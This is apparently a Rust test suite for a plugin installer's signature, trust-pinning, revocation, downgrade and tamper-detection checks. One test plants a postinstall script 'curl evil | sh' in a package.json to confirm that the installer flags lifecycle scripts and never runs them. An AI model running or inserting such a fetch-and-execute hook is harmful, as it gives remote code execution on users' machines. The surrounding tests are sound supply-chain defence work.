use super::*;
use crate::disk::Disk;
use crate::fixture::{Fixture, PROJECT, in_person, key, yes};
use crate::refusal::{Change, Invalid};
use crate::trust::Pinned;
use std::fs;
use std::path::Path;

const REPLY: &str = "{ channel: { any: [reply] } }";

#[test]
fn a_signed_package_is_installed_and_loads() {
    let fixture = Fixture::new();
    let (secret, public) = key();
    let archive = fixture.archive("1.0.0", REPLY, Some(&secret));
    let plan = fixture.plan(&archive).unwrap();
    assert_eq!(plan.needs, [Need::Confirmation, Need::TrustKey(public.fingerprint())]);
    assert_eq!((&plan.action, plan.source.as_str()), (&Action::Install, "./demo-1.0.0.tgz"));

    fixture.install(&archive, &in_person()).unwrap();
    let installed = fixture.load();
    let loaded = installed[0].plugin.as_ref().unwrap();
    assert_eq!(installed[0].state(), "trusted");
    assert_eq!(loaded.signer, Some(("acme".parse().unwrap(), public.fingerprint())));
    assert_eq!(loaded.grant, loaded.manifest.permissions);
    assert!(loaded.files.0.contains_key("src/index.js"));
    let publisher = fixture.trust().publisher(&"acme".parse().unwrap()).cloned().unwrap();
    assert_eq!((publisher.key, publisher.how), (public, Pinned::FirstUse));

    let project = fs::read_to_string(fixture.layout.project_file()).unwrap();
    assert!(project.starts_with(PROJECT), "{project}");
    assert_eq!(fixture.project().plugins.entries["demo"].source.as_deref(), Some("./demo-1.0.0.tgz"));
    assert!(!fixture.layout.staging().exists() && !fixture.layout.pending_file().exists());
}

#[test]
fn yes_stands_in_for_a_confirmation_and_nothing_else() {
    let fixture = Fixture::new();
    let (secret, public) = key();
    let signed = fixture.archive("1.0.0", REPLY, Some(&secret));
    let before = fixture.snapshot();
    let missing = |approval: &Approval, archive: &Path| match fixture.install(archive, approval) {
        Err(InstallError::NotApproved(missing)) => missing,
        other => panic!("{other:?}"),
    };
    let trust = Need::TrustKey(public.fingerprint());
    assert_eq!(missing(&Approval::default(), &signed), [Need::Confirmation, trust]);
    assert_eq!(missing(&yes(), &signed), [trust]);
    let wrong = Approval { trust_keys: vec![key().1.fingerprint()], ..yes() };
    assert_eq!(missing(&wrong, &signed), [trust]);
    assert_eq!(fixture.snapshot(), before);

    let unsigned = fixture.archive("1.0.1", REPLY, None);
    let all_but = Approval { trust_keys: vec![public.fingerprint()], allow_downgrade: true, ..in_person() };
    assert_eq!(missing(&all_but, &unsigned), [Need::AllowUnsigned]);
    fs::remove_file(unsigned).unwrap();
    assert_eq!(fixture.snapshot(), before);

    let named = Approval { trust_keys: vec![public.fingerprint()], ..yes() };
    fixture.install(&signed, &named).unwrap();
    let publisher = fixture.trust().publisher(&"acme".parse().unwrap()).cloned().unwrap();
    assert_eq!(publisher.how, Pinned::ByFingerprint);
    // From now on the publisher is known.
    fixture.install(&fixture.archive("1.1.0", REPLY, Some(&secret)), &yes()).unwrap();
}

#[test]
fn an_unsigned_package_is_shown_as_such_for_ever_after() {
    let fixture = Fixture::new();
    let approval = Approval { allow_unsigned: true, ..yes() };
    fixture.install(&fixture.archive("1.0.0", REPLY, None), &approval).unwrap();
    assert_eq!(fixture.states(), ["demo unsigned"]);
    assert!(fixture.lock().to_yaml().contains("exceptions: [\"unsigned\"]"));
    // Without the exception in the lock it does not load.
    let text = fs::read_to_string(fixture.layout.lock_file()).unwrap();
    fs::write(fixture.layout.lock_file(), text.replace("    exceptions: [\"unsigned\"]\n", "")).unwrap();
    assert!(matches!(fixture.load()[0].plugin, Err(Refusal::Unsigned)));
}

#[test]
fn the_project_may_allow_unsigned_packages() {
    let fixture = Fixture::new();
    fs::write(fixture.layout.project_file(), "schema: 1\npolicy: { unsigned: allow }\n").unwrap();
    fixture.install(&fixture.archive("1.0.0", REPLY, None), &yes()).unwrap();
    assert_eq!(fixture.states(), ["demo unsigned"]);
}

#[test]
fn an_update_shows_only_what_is_new() {
    let fixture = Fixture::new();
    let (secret, _) = key();
    fixture.install(&fixture.archive("1.0.0", REPLY, Some(&secret)), &in_person()).unwrap();
    let wider = "{ channel: { any: [reply] }, network: [\"https://api.example.com\"] }";
    let plan = fixture.plan(&fixture.archive("1.1.0", wider, Some(&secret))).unwrap();
    assert_eq!(plan.action, Action::Update { from: "1.0.0".parse().unwrap() });
    assert_eq!((plan.permissions.len(), plan.new_permissions.len()), (2, 1));
    assert!(plan.new_permissions[0].words.contains("api.example.com"));
    // Refused, the old version stays and runs.
    assert!(fixture.apply(&Disk::default(), plan, &Approval::default()).is_err());
    assert_eq!(fixture.load()[0].version().unwrap().to_string(), "1.0.0");
}

#[test]
fn a_plugin_that_changes_hands_is_pointed_out() {
    let fixture = Fixture::new();
    fixture.install(&fixture.archive("1.0.0", REPLY, Some(&key().0)), &in_person()).unwrap();
    let unsigned = fixture.plan(&fixture.archive("1.1.0", REPLY, None)).unwrap();
    assert_eq!(unsigned.warnings[1], "the installed version is signed by `acme`, this one by nobody");
    let directory = fixture.plugin("1.1.0", REPLY);
    let manifest = directory.join("wa.plugin.yaml");
    fs::write(
        &manifest,
        fs::read_to_string(&manifest).unwrap().replace("publisher: acme", "publisher: other"),
    )
    .unwrap();
    let packed = crate::pack::pack(&directory, &Default::default()).unwrap();
    let archive = fixture.layout.root().join("other.tgz");
    fs::write(&archive, crate::sign::signed(&packed.bytes, &key().0).unwrap()).unwrap();
    let other = fixture.plan(&archive).unwrap();
    assert_eq!(other.warnings, ["the installed version is signed by `acme`, this one by `other`"]);
    assert!(matches!(other.needs[1], Need::TrustKey(_)));
}

#[test]
fn scripts_and_findings_are_in_the_plan() {
    let fixture = Fixture::new();
    let directory = fixture.plugin("1.0.0", REPLY);
    let json = r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}"#;
    fs::write(directory.join("package.json"), json).unwrap();
    let plan = fixture.plan(&fixture.archive("1.0.0", REPLY, Some(&key().0))).unwrap();
    assert_eq!(plan.warnings, ["package.json has lifecycle scripts (postinstall); wa never runs them"]);
    let manifest = directory.join("wa.plugin.yaml");
    let service = "skills: [src/]\n";
    fs::write(&manifest, fs::read_to_string(&manifest).unwrap() + service).unwrap();
    let plan = fixture.plan(&directory).unwrap();
    assert_eq!(plan.warnings, ["no folder in `src` has a `SKILL.md` (WA0607)"]);
}

#[test]
fn an_older_package_needs_its_own_permission() {
    let fixture = Fixture::new();
    let (secret, _) = key();
    let old = fixture.archive("1.0.0", REPLY, Some(&secret));
    fixture.install(&fixture.archive("1.1.0", REPLY, Some(&secret)), &in_person()).unwrap();
    assert!(
        matches!(fixture.install(&old, &in_person()), Err(InstallError::NotApproved(needs)) if needs == [Need::AllowDowngrade])
    );
    fixture.install(&old, &Approval { allow_downgrade: true, ..yes() }).unwrap();
    assert_eq!(fixture.states(), ["demo trusted"]);
    assert!(fixture.lock().to_yaml().contains("exceptions: [\"downgrade\"]"));
    // An old package that somebody puts in the place of the new one does not load.
    let text = fs::read_to_string(fixture.layout.lock_file()).unwrap();
    fs::write(fixture.layout.lock_file(), text.replace("    exceptions: [\"downgrade\"]\n", "")).unwrap();
    assert_eq!(fixture.states(), ["demo downgraded"]);
}

#[test]
fn a_pinned_version_must_have_the_pinned_bytes() {
    let fixture = Fixture::new();
    let (secret, _) = key();
    fixture.install(&fixture.archive("1.0.0", REPLY, Some(&secret)), &in_person()).unwrap();
    let other = fixture.archive("1.0.0", "{ llm: true }", Some(&secret));
    assert!(matches!(fixture.plan(&other), Err(InstallError::Integrity { .. })));
}

#[test]
fn another_key_of_a_pinned_publisher_is_refused_whatever_is_allowed() {
    let fixture = Fixture::new();
    fixture.install(&fixture.archive("1.0.0", REPLY, Some(&key().0)), &in_person()).unwrap();
    let stolen = fixture.archive("1.1.0", REPLY, Some(&key().0));
    let refused = fixture.plan(&stolen).unwrap_err();
    assert!(
        matches!(refused, InstallError::Refused(Refusal::Invalid(Invalid::KeyChanged { .. }))),
        "{refused:?}"
    );
}

#[test]
fn a_revoked_key_neither_installs_nor_loads() {
    let fixture = Fixture::new();
    let (secret, _) = key();
    fixture.install(&fixture.archive("1.0.0", REPLY, Some(&secret)), &in_person()).unwrap();
    fixture.trust().revoke(&"acme".parse().unwrap(), None).unwrap();
    assert_eq!(fixture.states(), ["demo revoked"]);
    let plan = fixture.plan(&fixture.archive("1.1.0", REPLY, Some(&secret)));
    assert!(matches!(plan, Err(InstallError::Refused(Refusal::Revoked { .. }))));
}

#[test]
fn a_forgotten_publisher_no_longer_loads() {
    let fixture = Fixture::new();
    let (secret, _) = key();
    fixture.install(&fixture.archive("1.0.0", REPLY, Some(&secret)), &in_person()).unwrap();
    fixture.trust().remove(&"acme".parse().unwrap()).unwrap();
    assert_eq!(fixture.states(), ["demo invalid"]);
}

#[test]
fn what_was_edited_in_an_archive_is_named() {
    let fixture = Fixture::new();
    let (secret, _) = key();
    let archive = fixture.archive("1.0.0", REPLY, Some(&secret));
    let good = crate::archive::unpack(&fs::read(&archive).unwrap(), &Default::default()).unwrap();
    let other = fixture.archive("1.0.1", REPLY, Some(&secret));
    let other = crate::archive::unpack(&fs::read(&other).unwrap(), &Default::default()).unwrap();
    let with = |edit: &dyn Fn(&mut crate::contents::Contents)| {
        let mut contents = good.clone();
        edit(&mut contents);
        fs::write(&archive, crate::tarball::write(&contents).unwrap()).unwrap();
        fixture.plan(&archive).unwrap_err()
    };
    let path = |text: &str| text.parse::<crate::package_path::PackagePath>().unwrap();
    let modified = |error: InstallError, file: &str, what: Change| match error {
        InstallError::Refused(Refusal::Modified { path, change }) => {
            assert_eq!((path.as_str(), change), (file, what));
        }
        other => panic!("{other:?}"),
    };
    let code = good.get("src/index.js").unwrap().to_vec();
    modified(
        with(&|c| c.insert(path("src/index.js"), [&code[..], b"//"].concat())),
        "src/index.js",
        Change::Changed,
    );
    modified(with(&|c| c.insert(path("src/more.js"), Vec::new())), "src/more.js", Change::Extra);
    modified(
        with(&|c| c.insert(path("package.json"), &br#"{"name":"demo","version":"1.0.0"}"#[..])),
        "package.json",
        Change::Changed,
    );
    modified(
        with(&|c| c.files.get_mut("src/index.js").unwrap().executable = true),
        "src/index.js",
        Change::Mode,
    );

    let record = String::from_utf8(good.get("wa.package.json").unwrap().to_vec()).unwrap();
    let signature = String::from_utf8(good.get("wa.package.json.minisig").unwrap().to_vec()).unwrap();
    let invalid = |error: InstallError| match error {
        InstallError::Refused(Refusal::Invalid(invalid)) => invalid,
        other => panic!("{other:?}"),
    };
    let edited = record.replacen("\"seq\":", "\"seq\":1", 1);
    assert!(matches!(
        invalid(with(&|c| c.insert(path("wa.package.json"), edited.clone().into_bytes()))),
        Invalid::Signature(_)
    ));
    let spaced = record.replacen(':', ": ", 1);
    assert_eq!(
        invalid(with(&|c| c.insert(path("wa.package.json"), spaced.clone().into_bytes()))),
        Invalid::NotCanonical
    );
    let comment = signature.replace("demo@1.0.0", "demo@9.0.0");
    assert!(matches!(
        invalid(with(&|c| c.insert(path("wa.package.json.minisig"), comment.clone().into_bytes()))),
        Invalid::Signature(_)
    ));
    let theirs = other.get("wa.package.json.minisig").unwrap().to_vec();
    assert!(matches!(
        invalid(with(&|c| c.insert(path("wa.package.json.minisig"), theirs.clone()))),
        Invalid::Signature(_)
    ));
    let theirs = other.get("wa.package.json").unwrap().to_vec();
    assert!(matches!(
        invalid(with(&|c| c.insert(path("wa.package.json"), theirs.clone()))),
        Invalid::Disagreement { what: "version", .. }
    ));
    assert!(matches!(invalid(with(&|c| drop(c.files.remove("wa.package.json")))), Invalid::Record(_)));
    assert!(matches!(invalid(with(&|c| drop(c.files.remove("package.json")))), Invalid::PackageJson(_)));
}

#[test]
fn a_plain_archive_without_a_record_counts_as_unsigned() {
    let fixture = Fixture::new();
    let archive = fixture.archive("1.0.0", REPLY, None);
    let mut contents = crate::archive::unpack(&fs::read(&archive).unwrap(), &Default::default()).unwrap();
    contents.files.remove("wa.package.json");
    fs::write(&archive, crate::tarball::write(&contents).unwrap()).unwrap();
    fixture.install(&archive, &Approval { allow_unsigned: true, ..yes() }).unwrap();
    assert_eq!(fixture.states(), ["demo unsigned"]);
}

#[test]
fn a_directory_is_linked_and_not_copied() {
    let fixture = Fixture::new();
    let directory = fixture.plugin("1.0.0", REPLY);
    let plan = fixture.plan(&directory).unwrap();
    assert_eq!((&plan.action, plan.needs.len()), (&Action::Link, 0));
    fixture.apply(&Disk::default(), plan, &Approval::default()).unwrap();
    assert_eq!(fixture.states(), ["demo unsigned-dev"]);
    assert!(!fixture.layout.store().exists());
    fs::write(directory.join("src/index.js"), "export default 1 +;").unwrap();
    assert_eq!(fixture.states(), ["demo invalid"]);
}

#[test]
fn what_cannot_be_installed_says_why() {
    let fixture = Fixture::new();
    let root = fixture.layout.root().to_owned();
    fs::write(root.join("empty.tgz"), crate::tarball::write(&Default::default()).unwrap()).unwrap();
    fs::write(root.join("garbage.tgz"), "not an archive").unwrap();
    let before = fixture.snapshot();
    let error = |spec: &str| match candidate(Fetched::local(&Spec::parse(spec, &root).unwrap()).unwrap()) {
        Err(error) => (error.is_refusal(), error.to_string().replace(&*root.to_string_lossy(), "")),
        Ok(_) => panic!("{spec}"),
    };
    let shown: Vec<_> = ["./empty.tgz", "./garbage.tgz", "./none.tgz", "./none"]
        .into_iter()
        .map(|spec| format!("{spec:20} {:?}", error(spec)))
        .collect();
    insta::assert_snapshot!(shown.join("\n"));
    assert_eq!(fixture.snapshot(), before);
}

#[test]
fn the_plan_as_json() {
    let fixture = Fixture::new();
    let archive = fixture.archive("1.0.0", "{ channel: { any: [send, reply] }, storage: 1MiB }", None);
    let mut plan = serde_json::to_value(fixture.plan(&archive).unwrap()).unwrap();
    plan["archive"] = "[archive]".into();
    let text = serde_json::to_string_pretty(&plan).unwrap();
    let tree =
        fixture.plan(&archive).unwrap().changes[0].path.file_name().unwrap().to_string_lossy().into_owned();
    insta::assert_snapshot!(
        text.replace(&*fixture.layout.root().to_string_lossy(), "[project]")
            .replace(&tree, "[version-digest]")
    );
}
